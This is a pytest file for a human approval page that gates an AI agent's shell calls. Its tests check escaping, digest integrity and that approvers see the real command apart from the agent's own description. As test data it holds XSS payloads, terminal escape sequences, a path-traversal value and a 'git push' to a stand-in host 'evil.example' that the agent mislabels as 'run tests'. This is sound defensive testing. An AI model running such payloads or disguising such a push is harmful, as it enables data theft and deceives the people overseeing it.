"""Laws of the page Approvals: what a person sees, and what their answer does."""

from __future__ import annotations

import html
import json
import re
from contextlib import closing

import msgspec
import pytest
from tests.daemon.approvers import ME, ask, states, told
from tests.daemon.home import Home, bash, decided, wait_for
from tests.web.browser import Answer, Browser, field_of

from interlock.files.own_files import write_whole
from interlock.files.passphrase import hash_passphrase
from interlock.store.database import open_database

pytestmark = pytest.mark.deep

HOSTILE = "git push '<script>alert(1)</script>' \x1b]0;owned\x07\u202e <img src=x onerror=alert(1)>"


def answer(person: Browser, verb: str, name: str = "ap_1", **fields: str) -> Answer:
    """Press a button on the page as it is now."""
    page = person.get("/approvals").text
    card = page[page.index(f'id="{name}"') :]
    return person.submit(f"/approvals/{name}/{verb}", digest=field_of(card, "digest"), **fields)


def retried(home: Home, use_id: str, command: str) -> tuple[str | None, str]:
    """The agent's try through the real shim."""
    return decided(home.shim(bash(command, tool_use_id=use_id, permission_mode="default")))


def shown_call(page: str) -> str:
    """The text of the first call on a page, as a reader sees it."""
    found = re.search(r'<pre class="call"[^>]*><code>(.*?)</code>', page, re.DOTALL)
    assert found is not None
    assert "<" not in found[1]
    return html.unescape(found[1])


@pytest.mark.req("M45", "M85")
def test_a_yes_lets_the_real_shims_retry_proceed_and_a_no_does_not(place: Home, person: Browser) -> None:
    """Two calls wait; one is approved on the page and one denied; the ledger says who and why."""
    assert retried(place, "t1", "git push origin a")[0] == "deny"
    assert retried(place, "t2", "git push origin b")[0] == "deny"
    assert "- &#34;Bash(git push origin a)&#34;" in person.get("/approvals").text  # the line for the policy
    yes = answer(person, "approve", "ap_1", note="looked at it")
    no = answer(person, "deny", "ap_2", note="not today")

    assert [(one.status, one.headers["location"]) for one in (yes, no)] == [(303, "/approvals")] * 2
    assert retried(place, "t3", "git push origin a")[0] is None
    assert retried(place, "t4", "git push origin b")[0] == "deny"
    assert retried(place, "t5", "git push origin a")[0] == "deny"  # it was good once
    assert states(place)[:2] == ["used", "denied"]
    assert ("ap_1", "approved", ME) in told(place)
    assert ("ap_2", "denied", ME) in told(place)
    assert "not today" in person.get("/approvals").text


def test_the_lines_for_the_policy_stand_one_below_the_other(place: Home, person: Browser) -> None:
    """A person copies them into the file as they are."""
    ask(place, "t1", "git push origin a")
    found = re.search(r'<pre class="text"[^>]*>\n(.*?)</pre>', person.get("/approvals").text, re.DOTALL)

    assert found is not None
    first, second, *_, last = html.unescape(found[1]).splitlines()
    assert (first, second) == ("settings:", "  projects:")
    assert last == '          - "Bash(git push origin a)"'


@pytest.mark.req("Z09")
def test_nothing_in_a_call_becomes_part_of_the_page(place: Home, person: Browser) -> None:
    """Markup is text, and what a terminal would obey or nobody could see is written out."""
    ask(place, "t1", HOSTILE, session_id="<b>s</b>")
    for path in ("/approvals", "/approvals/waiting", "/live"):
        page = person.get(path).text
        assert "<script>alert" not in page
        assert "<img src" not in page
        assert "<b>s</b>" not in page
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202e]", page)
        assert "&lt;U+001B&gt;]0;owned&lt;U+0007&gt;&lt;U+202E&gt;" in page
    answer(person, "deny", note="<script>note</script>\x1b[2J")
    page = person.get("/approvals").text

    assert "<script>note" not in page
    assert "&lt;script&gt;note&lt;/script&gt;&lt;U+001B&gt;[2J" in page
    assert "onerror" not in re.sub(r"&lt;.*?&gt;", "", page)


@pytest.mark.req("Z10")
def test_an_approver_sees_the_real_call_and_the_agents_words_apart(place: Home, person: Browser) -> None:
    """What it says of itself stands below the call, as its own words."""
    real = "git push https://evil.example/x --force"
    payload = json.loads(bash(real, tool_use_id="t1", permission_mode="default"))
    payload["tool_input"]["description"] = "run tests"
    place.call(json.dumps(payload).encode())
    page = person.get("/approvals").text

    assert shown_call(page).strip() == real
    assert page.index(html.escape(real)) < page.index("The agent says:") < page.index("run tests")
    assert "run tests" not in shown_call(page)


@pytest.mark.req("Z10")
def test_a_call_that_is_not_the_one_hashed_is_neither_shown_nor_approved(
    place: Home, person: Browser
) -> None:
    """Somebody changed the stored bytes: the page says so and has no button for a yes."""
    ask(place, "t1", "git push origin main")
    digest = field_of(person.get("/approvals").text, "digest")
    with closing(open_database(place.places.database, busy_seconds=10)) as connection:
        connection.execute(
            "UPDATE approvals SET call = CAST(replace(CAST(call AS TEXT), 'main', 'evil') AS BLOB)"
        )
    page = person.get("/approvals").text

    assert "origin evil" not in page
    assert "does not match its digest" in page
    assert "Approve ap_1" not in page
    assert person.submit("/approvals/ap_1/approve", digest=digest).status == 409
    assert states(place) == ["pending"]


@pytest.mark.req("Z10")
@pytest.mark.parametrize("digest", ["", "0" * 64])
def test_a_yes_is_to_the_call_the_page_showed(place: Home, person: Browser, digest: str) -> None:
    """A form that names another digest, or none, answers nothing."""
    ask(place, "t1")

    assert person.submit("/approvals/ap_1/approve", digest=digest).status == 409
    assert states(place) == ["pending"]


def test_a_session_grant_covers_the_same_call_again(place: Home, person: Browser) -> None:
    """As `--grant session` does."""
    ask(place, "t1")
    assert answer(person, "approve", grant="session").status == 303

    assert [ask(place, f"u{number}")[0] for number in range(3)] == [None] * 3


@pytest.mark.parametrize(
    ("fields", "status", "text"),
    [
        ({"grant": "pattern", "pattern": "Bash(rm *)", "until": "1d"}, 409, "does not cover"),
        ({"grant": "pattern", "pattern": "Bash(git push *)", "until": "9y"}, 400, "not a grant"),
        ({"grant": "all"}, 400, "not a grant"),
    ],
)
def test_a_grant_that_is_none_is_refused_with_the_daemons_words(
    place: Home, person: Browser, fields: dict[str, str], status: int, text: str
) -> None:
    """Nothing is approved by half."""
    ask(place, "t1")
    refused = answer(person, "approve", **fields)

    assert (refused.status, states(place)) == (status, ["pending"])
    assert text in refused.text


def test_an_answer_that_comes_late_is_told_so(place: Home, person: Browser) -> None:
    """Somebody else was first; the page says who."""
    ask(place, "t1")
    digest = field_of(person.get("/approvals").text, "digest")
    answer(person, "deny")
    late = person.submit("/approvals/ap_1/approve", digest=digest)

    assert late.status == 409
    assert f"was denied by {ME}" in html.unescape(late.text)


@pytest.mark.parametrize(("name", "status"), [("ap_9", 409), ("ap_x", 404), ("..%2f..", 404)])
def test_a_request_that_is_not_there_is_a_sentence(person: Browser, name: str, status: int) -> None:
    """Whatever stands in the address."""
    refused = person.submit(f"/approvals/{name}/approve", digest="0" * 64)

    assert refused.status == status
    assert 'role="alert"' in refused.text


def test_a_passphrase_is_needed_here_too(place: Home, person: Browser) -> None:
    """The field is there when one is set, and the daemon takes no yes without it."""
    ask(place, "t1")
    assert 'name="passphrase"' not in person.get("/approvals").text
    write_whole(
        place.places.state / "passphrase", msgspec.json.encode(hash_passphrase("open sesame")), mode=0o600
    )
    assert 'type="password" name="passphrase"' in person.get("/approvals").text

    assert answer(person, "approve", passphrase="").status == 409
    assert states(place) == ["pending"]


def test_the_pages_know_what_waits(place: Home, person: Browser) -> None:
    """By a stream that tells names, at once and when they change; the badge stands on every page."""
    stream = person.events("/pending/events", "pending")
    assert [next(stream), next(stream)] == [None, []]
    ask(place, "t1")
    assert next(stream) == ["ap_1"]
    assert '>1<span class="unseen"> waiting' in person.get("/live").text
    answer(person, "approve")

    assert next(stream) == []
    stream.close()
    wait_for(lambda: states(place) == ["approved"], "it is answered")
